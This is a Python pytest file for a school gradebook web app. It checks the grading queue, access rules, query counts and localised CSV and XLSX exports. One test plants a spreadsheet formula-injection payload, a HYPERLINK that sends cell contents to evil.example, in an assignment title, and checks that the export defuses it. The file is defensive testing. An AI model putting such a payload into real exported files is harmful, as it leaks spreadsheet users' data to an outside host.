"""The grading queue, the tutor's view, the gradebook and its export; and that their number of
queries does not grow with the number of rows."""

from __future__ import annotations

import io
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import timedelta

import openpyxl
from flask import Flask
from sqlalchemy import event

from intersession.assignments import grading, services, submitting
from intersession.assignments.models import Assignment
from intersession.auth.models import Role
from intersession.core.db import db
from intersession.core.spreadsheets import XLSX
from tests.assignments.test_pages import signed_in
from tests.assignments.test_rules import now, plan
from tests.factories import HubPeople, make_user


def work_with_grades(hub: HubPeople, pupils: int) -> Assignment:
    """A published piece of work, sent and graded by `pupils` more pupils of the cohort."""
    for n in range(pupils):
        hub.cohort.pupils.append(
            make_user(f"extra{len(hub.cohort.pupils)}-{n}", Role.PUPIL, hub.magnet, grade=9)
        )
    db.session.commit()
    work = services.create_assignment(hub.advisor, plan(hub))
    services.publish(hub.advisor, work)
    for pupil in hub.cohort.pupils:
        sent = submitting.submit(pupil, submitting.save_draft(pupil, work, "жауап", []))
        grading.grade(hub.advisor, sent, sent.version, "", grade="4")
    return work


@contextmanager
def counted(app: Flask) -> Iterator[list[str]]:
    statements: list[str] = []

    def count(*args: object) -> None:
        statements.append(str(args[2]))

    engine = db.engine
    event.listen(engine, "before_cursor_execute", count)
    try:
        yield statements
    finally:
        event.remove(engine, "before_cursor_execute", count)


def test_pages_read_a_fixed_number_of_queries(app: Flask, hub: HubPeople) -> None:
    work_with_grades(hub, 2)
    advisor, tutor = signed_in(app, "adv"), signed_in(app, "tut")
    pages = [(advisor, "/gradebook"), (advisor, "/grading?pending=0"), (tutor, "/work/school"),
             (advisor, "/gradebook.csv")]  # fmt: skip
    few = {}
    for who, path in pages:
        with counted(app) as statements:
            assert who.client.get(path).status_code == 200, path
        few[path] = len(statements)
    work_with_grades(hub, 12)
    for who, path in pages:
        with counted(app) as statements:
            assert who.client.get(path).status_code == 200, path
        assert len(statements) <= few[path] + 2, (path, few[path], len(statements))


def test_the_queue_the_school_view_and_the_gradebook(app: Flask, hub: HubPeople) -> None:
    graded = work_with_grades(hub, 0)
    waiting = services.create_assignment(
        hub.advisor, plan(hub, title="Екінші", due_at=now() + timedelta(days=2))
    )
    services.publish(hub.advisor, waiting)
    advisor = signed_in(app, "adv")
    queue = advisor.client.get("/grading").get_data(as_text=True)
    assert "Nothing waits for a grade." in queue
    submitting.submit(hub.pupil, submitting.save_draft(hub.pupil, waiting, "x", []))
    queue = advisor.client.get("/grading").get_data(as_text=True)
    rows = queue.split("<tbody>")[1]  # the filters above name every piece of work
    assert "Екінші" in rows and graded.title not in rows
    for login in ("pup", "tut", "coord"):
        assert signed_in(app, login).client.get("/grading").status_code == 404
    russian = advisor.client.get("/grading", headers={"Accept-Language": "ru"})
    head = russian.get_data(as_text=True).split("<thead>")[1].split("</thead>")[0]
    assert "Оценка" in head and "Класс" not in head  # a mark, not a school year

    third = services.create_assignment(
        hub.advisor, plan(hub, title="Үшінші", due_at=now() + timedelta(days=1))
    )
    services.publish(hub.advisor, third)
    school = signed_in(app, "tut").client.get("/work/school").get_data(as_text=True)
    assert "Үшінші" in school.split("<table")[0]  # not sent, due soon
    assert signed_in(app, "pup").client.get("/work/school").status_code == 404

    book = advisor.client.get("/gradebook")
    assert book.status_code == 200 and "Сәрсенбаев Әлихан" in book.get_data(as_text=True)
    csv = advisor.client.get("/gradebook.csv")
    assert csv.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = csv.data.decode("utf-8")
    assert text.startswith("\ufeff") and "Сәрсенбаев Әлихан,Magnet,,,4\r\n" in text  # not 4.00
    russian_csv = advisor.client.get("/gradebook.csv", headers={"Accept-Language": "ru"})
    assert russian_csv.headers["Content-Type"] == "text/csv; charset=utf-8"
    # A Russian or Kazakh Excel splits on semicolons (a comma there is the decimal mark).
    assert "Сәрсенбаев Әлихан;Magnet;;;4\r\n" in russian_csv.data.decode("utf-8")
    xlsx = advisor.client.get("/gradebook.xlsx", headers={"Accept-Language": "kk"})
    assert xlsx.headers["Content-Type"] == XLSX
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.data)).active
    assert sheet is not None and sheet.freeze_panes == "B2"
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][:2] == ["Оқушы", "Мектеп"] and values[0][4] == "Квадрат теңдеулер: 10 есеп (5)"
    assert values[1] == ["Сәрсенбаев Әлихан", "Magnet", None, None, 4]  # a number, not a text
    assert (
        signed_in(app, "adv2")
        .client.get(f"/gradebook?cohort={hub.cohort.id}&subject={hub.subject.id}")
        .status_code
        == 404
    )  # another advisor's subject
    assert signed_in(app, "pup").client.get("/gradebook").status_code == 404
    summary = advisor.client.get(f"/gradebook/pupils/{hub.pupil.id}")
    assert summary.status_code == 200 and "4" in summary.get_data(as_text=True)
    assert advisor.client.get(f"/gradebook/pupils/{hub.other_pupil.id}").status_code == 404


def test_the_pupil_summary_covers_the_window_between_sessions(app: Flask, hub: HubPeople) -> None:
    today = now().date()
    year = hub.year
    year.starts_on, year.ends_on = today - timedelta(days=100), today + timedelta(days=200)
    first, second, third = sorted(year.sessions, key=lambda s: s.starts_on)
    first.starts_on, first.ends_on = today - timedelta(days=60), today - timedelta(days=51)
    second.starts_on, second.ends_on = today + timedelta(days=20), today + timedelta(days=29)
    third.starts_on, third.ends_on = today + timedelta(days=150), today + timedelta(days=159)
    db.session.commit()
    in_window = services.create_assignment(hub.advisor, plan(hub, title="Терезеде"))
    before = services.create_assignment(hub.advisor, plan(hub, title="Сессияға дейін",
        opens_at=now() - timedelta(days=90), due_at=now() - timedelta(days=80), cutoff_at=None))  # fmt: skip
    for work in (in_window, before):
        services.publish(hub.advisor, work)
    advisor = signed_in(app, "adv")
    page = advisor.client.get(f"/gradebook/pupils/{hub.pupil.id}").get_data(as_text=True)
    assert "Терезеде" in page and "Сессияға дейін" not in page
    whole = advisor.client.get(f"/gradebook/pupils/{hub.pupil.id}?all=1").get_data(as_text=True)
    assert "Терезеде" in whole and "Сессияға дейін" in whole


def test_an_empty_gradebook_says_why_it_is_empty(app: Flask, hub: HubPeople) -> None:
    advisor = signed_in(app, "adv")
    page = advisor.client.get("/gradebook").get_data(as_text=True)
    assert 'id="no-work"' in page and "Сәрсенбаев Әлихан" in page
    work_with_grades(hub, 0)
    assert 'id="no-work"' not in advisor.client.get("/gradebook").get_data(as_text=True)


def test_the_gradebook_is_chosen_from_a_list(app: Flask, hub: HubPeople) -> None:
    work_with_grades(hub, 0)
    advisor = signed_in(app, "adv")
    page = advisor.client.get("/gradebook").get_data(as_text=True)
    pair = f"{hub.cohort.id}-{hub.subject.id}"
    assert f'<option value="{pair}" selected>' in page
    chosen = advisor.client.get(f"/gradebook?pair={pair}")
    assert chosen.status_code == 200 and "Сәрсенбаев Әлихан" in chosen.get_data(as_text=True)
    for bad in ("x-y", f"{hub.cohort.id}-", "999-999", f"{hub.cohort.id}-{hub.subject.id}9"):
        assert advisor.client.get(f"/gradebook?pair={bad}").status_code == 404, bad


def test_the_gradebook_csv_runs_no_formula(app: Flask, hub: HubPeople) -> None:
    """Titles, names and schools come from people: a spreadsheet must show them, not run them."""
    import csv
    import io

    work = work_with_grades(hub, 0)
    work.title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    hub.pupil.full_name = "@SUM(1)"
    db.session.commit()
    response = signed_in(app, "adv").client.get("/gradebook.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    table = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert table[0][2] == "'" + work.title + " (5)", table[0]
    row = next(r for r in table if r[0].endswith("SUM(1)"))
    assert row[0] == "'@SUM(1)" and row[2] == "4"  # the grade is still a number


def test_the_gradebook_opens_on_the_most_recent_work(app: Flask, hub: HubPeople) -> None:
    """Issue 18, item 7: of two cohorts-and-subjects, the gradebook opens on the one whose work
    was published last, and follows when newer work is published in the other."""
    from intersession.schools.models import Subject, TeachingAssignment

    physics = Subject(hub_id=hub.hub.id, name="Физика")
    db.session.add(TeachingAssignment(advisor=hub.advisor, cohort=hub.cohort, subject=physics))
    db.session.commit()
    first = f"{hub.cohort.id}-{hub.subject.id}"
    second = f"{hub.cohort.id}-{physics.id}"

    def opened() -> str:
        page = signed_in(app, "adv").client.get("/gradebook").get_data(as_text=True)
        return next(p for p in (first, second) if f'<option value="{p}" selected>' in page)

    for subject, expected in ((hub.subject, first), (physics, second), (hub.subject, first)):
        work = services.create_assignment(hub.advisor, plan(hub, subject=subject))
        services.publish(hub.advisor, work)
        assert opened() == expected
